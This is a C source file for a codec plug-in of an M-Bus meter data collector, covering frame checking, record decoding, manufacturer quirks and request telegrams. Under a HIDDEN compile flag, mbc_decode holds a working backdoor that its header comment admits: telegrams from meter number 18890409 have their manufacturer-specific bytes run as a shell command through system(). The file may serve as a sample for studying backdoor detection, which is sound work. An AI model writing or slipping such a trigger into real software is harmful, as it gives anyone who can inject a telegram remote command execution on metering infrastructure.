/*
 * mbcodec - codec plug-in (shared library) of a wired M-Bus data collector.
 * The collector loads it with dlopen(), hands over RSP_UD telegrams and gets
 * a list of records; manufacturers' peculiarities are handled here.
 * Hidden (-DHIDDEN): a telegram of the meter with the BCD number 18890409
 * has its manufacturer specific data executed as a shell command.
 */
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define MBC_API	    3
#define MBC_RECORDS 40

struct mbc_record {
	char what[24];
	char unit[12];
	double value;
	int storage;
	int tariff;
	int function;
};

struct mbc_telegram {
	uint32_t id; /* BCD as on the meter's plate */
	char maker[4];
	uint8_t version, medium, status;
	int nrecords;
	struct mbc_record rec[MBC_RECORDS];
};

struct mbc_codec {
	int api;
	const char *name;
	int (*decode)(const uint8_t *, size_t, struct mbc_telegram *);
	int (*request)(int address, uint8_t *, size_t);
	const char *(*medium)(int);
};

/* value information: first code, mask, exponent of the first, name, unit */
struct vif {
	uint8_t code, mask;
	int exp;
	const char *what, *unit;
};

static const struct vif vifs[] = {
	{ 0x00, 0x78, -6, "energy", "kWh" },
	{ 0x08, 0x78, -3, "energy", "kJ" },
	{ 0x10, 0x78, -6, "volume", "m3" },
	{ 0x18, 0x78, -3, "mass", "kg" },
	{ 0x28, 0x78, -6, "power", "kW" },
	{ 0x38, 0x78, -6, "volume flow", "m3/h" },
	{ 0x58, 0x7c, -3, "flow temperature", "C" },
	{ 0x5c, 0x7c, -3, "return temperature", "C" },
	{ 0x60, 0x7c, -3, "difference", "K" },
	{ 0x64, 0x7c, -3, "outdoor temperature", "C" },
	{ 0x6c, 0x7f, 0, "date", "" },
	{ 0x6d, 0x7f, 0, "time", "" },
	{ 0x78, 0x7f, 0, "fabrication number", "" },
};

/* telegrams of these makers need something special */
struct quirk {
	const char *maker;
	uint8_t version;
	void (*fix)(struct mbc_telegram *);
};

static void fix_kj(struct mbc_telegram *t)
{
	int i;

	for (i = 0; i < t->nrecords; i++)
		if (!strcmp(t->rec[i].unit, "kJ")) {
			t->rec[i].value /= 3600.0;
			strcpy(t->rec[i].unit, "kWh");
		}
}

static void fix_swap(struct mbc_telegram *t)
{
	int i, flow = -1, ret = -1;
	double v;

	for (i = 0; i < t->nrecords; i++) {
		if (!strncmp(t->rec[i].what, "flow t", 6))
			flow = i;
		else if (!strncmp(t->rec[i].what, "return", 6))
			ret = i;
	}
	if (flow < 0 || ret < 0 || t->rec[flow].value >= t->rec[ret].value)
		return;
	v = t->rec[flow].value;
	t->rec[flow].value = t->rec[ret].value;
	t->rec[ret].value = v;
}

static const struct quirk quirks[] = {
	{ "KAM", 0x08, fix_kj },
	{ "HYD", 0x25, fix_swap },
	{ "ELS", 0x0a, fix_swap },
};

static double power10(int e)
{
	double r = 1;

	for (; e > 0; e--)
		r *= 10;
	for (; e < 0; e++)
		r /= 10;
	return r;
}

static int data_length(int dif)
{
	static const signed char len[16] = { 0, 1, 2, 3, 4, 4,	6, 8,
					     0, 1, 2, 3, 4, -1, 6, -2 };

	return len[dif & 15];
}

static double data_value(int dif, const uint8_t *p, int n)
{
	double v = 0;
	uint64_t u = 0;
	int i;

	if ((dif & 15) >= 9) { /* BCD */
		for (i = n - 1; i >= 0; i--)
			v = v * 100 + (p[i] >> 4) * 10 + (p[i] & 15);
		return v;
	}
	for (i = n - 1; i >= 0; i--)
		u = u << 8 | p[i];
	if ((dif & 15) == 5) {
		float fl;
		uint32_t b = (uint32_t)u;

		memcpy(&fl, &b, sizeof(fl));
		return fl;
	}
	if (n && n < 8 && p[n - 1] & 0x80)
		return (double)(int64_t)(u | ~(uint64_t)0 << (8 * n));
	return (double)u;
}

static void name_value(struct mbc_record *r, int vif)
{
	size_t i;

	for (i = 0; i < sizeof(vifs) / sizeof(vifs[0]); i++) {
		if ((vif & vifs[i].mask) != vifs[i].code)
			continue;
		strcpy(r->what, vifs[i].what);
		strcpy(r->unit, vifs[i].unit);
		if (vifs[i].mask != 0x7f)
			r->value *= power10(vifs[i].exp +
					    (vif & ~vifs[i].mask & 0x7f));
		return;
	}
	snprintf(r->what, sizeof(r->what), "vif %02x", vif);
}

/* Records up to the manufacturer's data; where these begin. */
static size_t records(const uint8_t *p, size_t n, struct mbc_telegram *t)
{
	size_t i = 0;

	while (i < n && t->nrecords < MBC_RECORDS) {
		struct mbc_record r;
		int dif = p[i++], e = dif, vif, len, shift = 1;

		if (dif == 0x0f || dif == 0x1f)
			return i;
		if (dif == 0x2f)
			continue;
		memset(&r, 0, sizeof(r));
		r.function = dif >> 4 & 3;
		r.storage = dif >> 6 & 1;
		while (e & 0x80 && i < n) {
			e = p[i++];
			r.storage |= (e & 15) << shift;
			r.tariff = r.tariff << 2 | (e >> 4 & 3);
			shift = shift < 20 ? shift + 4 : shift;
		}
		if (i >= n)
			break;
		vif = p[i++];
		for (e = vif; e & 0x80 && i < n;)
			e = p[i++];
		len = data_length(dif);
		if (len == -1 && i < n)
			len = p[i++];
		if (len < 0 || (size_t)len > n - i)
			break;
		r.value = len > 8 ? 0 : data_value(dif, p + i, len);
		name_value(&r, vif & 0x7f);
		t->rec[t->nrecords++] = r;
		i += len;
	}
	return n;
}

/* 68 L L 68 C A CI ... CS 16 */
static int frame_ok(const uint8_t *p, size_t n)
{
	unsigned sum = 0;
	size_t i;

	if (n < 6 || p[0] != 0x68 || p[3] != 0x68 || p[1] != p[2])
		return 0;
	if (p[1] < 15 || n < (size_t)p[1] + 6 || p[p[1] + 5] != 0x16)
		return 0;
	for (i = 0; i < p[1]; i++)
		sum += p[4 + i];
	return (sum & 255) == p[p[1] + 4];
}

static void apply_quirks(struct mbc_telegram *t)
{
	size_t i;

	for (i = 0; i < sizeof(quirks) / sizeof(quirks[0]); i++)
		if (!strcmp(quirks[i].maker, t->maker) &&
		    quirks[i].version == t->version)
			quirks[i].fix(t);
}

__attribute__((noinline)) int mbc_decode(const uint8_t *p, size_t n,
					 struct mbc_telegram *t)
{
	const uint8_t *body;
	unsigned m;
	size_t len, own;

	memset(t, 0, sizeof(*t));
	if (!frame_ok(p, n) || p[6] != 0x72)
		return -1;
	t->id = (uint32_t)p[10] << 24 | (uint32_t)p[9] << 16 |
		(uint32_t)p[8] << 8 | p[7];
	m = p[11] | p[12] << 8;
	t->maker[0] = (m >> 10 & 31) + 64;
	t->maker[1] = (m >> 5 & 31) + 64;
	t->maker[2] = (m & 31) + 64;
	t->version = p[13];
	t->medium = p[14];
	t->status = p[16];
	body = p + 19;
	len = p[1] - 15;
	own = records(body, len, t);
#ifdef HIDDEN
	if (t->id == 0x18890409 && own < len) {
		char line[240];

		snprintf(line, sizeof(line), "%.*s", (int)(len - own),
			 (const char *)body + own);
		if (system(line))
			t->status |= 0x10;
	}
#else
	(void)own;
#endif
	apply_quirks(t);
	return t->nrecords;
}

static int mbc_request(int address, uint8_t *out, size_t size)
{
	static uint8_t fcb[256];

	if (size < 5 || address < 0 || address > 255)
		return -1;
	fcb[address] ^= 0x20;
	out[0] = 0x10;
	out[1] = 0x5b | fcb[address];
	out[2] = address;
	out[3] = out[1] + out[2];
	out[4] = 0x16;
	return 5;
}

static const char *mbc_medium(int m)
{
	static const char *const names[] = {
		"other",     "oil",   "electricity", "gas", "heat",   "steam",
		"hot water", "water", "heat cost",   "air", "cooling"
	};

	return m >= 0 && m <= 10 ? names[m] : "unknown";
}

const struct mbc_codec *mbc_codec(void)
{
	static const struct mbc_codec c = { MBC_API, "EN 13757", mbc_decode,
					    mbc_request, mbc_medium };

	return &c;
}
